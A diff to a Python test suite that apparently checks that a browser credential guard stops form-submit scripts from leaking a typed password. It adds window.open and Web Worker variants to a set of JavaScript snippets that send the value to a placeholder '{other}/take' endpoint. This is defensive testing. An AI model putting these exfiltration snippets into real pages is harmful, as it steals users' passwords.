@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import asyncio
 import gzip
 
 import pytest
@@ -51,6 +52,8 @@ SCRIPTS = {
         ".then(b=>fetch('{other}/take',{method:'POST',mode:'no-cors',body:b}))"
     ),
     "header": "fetch('{other}/take',{headers:{Accept:btoa('annabel:'+x)}})",
+    "window": "window.open('').location='{other}/take?p='+x",
+    "worker": "new Worker('/send.js').postMessage(x)",
     "user name alone": "fetch('{other}/take?who='+f.u.value,{mode:'no-cors'})",
 }
 
@@ -58,16 +61,21 @@ SCRIPTS = {
 @pytest.mark.parametrize("script", SCRIPTS)
 async def test_what_a_script_makes_of_it_is_stopped(world: World, script: str) -> None:
     world.pages["/in"] = "<h1>In</h1>"
+    world.pages["/send.js"] = "onmessage=e=>fetch('{other}/take',{method:'POST',mode:'no-cors',body:e.data})"
+    world.asked.clear()
     body = f"{FORM}<script>f.onsubmit=e=>{{e.preventDefault();const x=f.p.value;{SCRIPTS[script]}}}</script>"
     async with world.surface(body, account=ACCOUNT) as surface:
         await typed(surface)
         told = await sent(surface)
-        if not told:
-            await surface.settle(2, change=True)
-            told = [r for r in surface.drain() if r.source == CREDENTIALS]
+        async with asyncio.timeout(20):
+            while not told:
+                surface.tab.watch.stir.clear()
+                await surface.tab.watch.stir.wait()
+                told = [r for r in surface.drain() if r.source == CREDENTIALS]
         assert [(r.kind, r.data["to"], r.data["how"]) for r in told if r.kind == "stopped"][:1] == [
-            ("stopped", world.origin("other"), "script")
+            ("stopped", world.origin("other"), "document" if script == "window" else "script")
         ]
+        assert "/take" not in world.asked
 
 
 async def test_a_host_that_few_parsers_know_gets_nothing_either(world: World) -> None:
